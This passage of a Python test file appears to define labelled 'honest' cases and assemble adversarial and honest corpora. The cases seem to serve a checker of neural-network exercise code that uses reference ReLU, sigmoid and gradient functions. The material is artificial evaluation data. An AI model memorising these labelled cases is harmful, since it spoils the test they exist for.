    Case("forward-231-calls-refimpl-relu-and-sigmoid-directly", "honest", "02_forward",
         (replace("forward_231", """
          def forward_231(X, params):
              Z1 = dense_forward(X, params["W1"], params["b1"])
              A1 = refimpl.relu(Z1)
              Z2 = dense_forward(A1, params["W2"], params["b2"])
              A2 = refimpl.sigmoid(Z2)
              return A2, {"X": X, "Z1": Z1, "A1": A1, "Z2": Z2, "A2": A2}
          """),)),
    Case("train-with-reference-forward-backward-and-bce", "honest", "07_training", ()),
    Case("gradient-errors-with-refimpl-numerical-gradients", "honest", N06, ()),
    Case("own-helpers-named-like-reference-functions", "honest", N06,
         (after("derivatives", """
          def sigmoid_prime(z):
              s = 1.0 / (1.0 + np.exp(-z))
              return s * (1.0 - s)
          def relu_prime(z):
              return (np.asarray(z) > 0).astype(float)
          """),)),
]


ALL = ONE + TWO + THREE + FOUR + FIVE + SIX + SEVEN
ADVERSARIAL = list(ALL)
CORPUS = ADVERSARIAL + HONEST
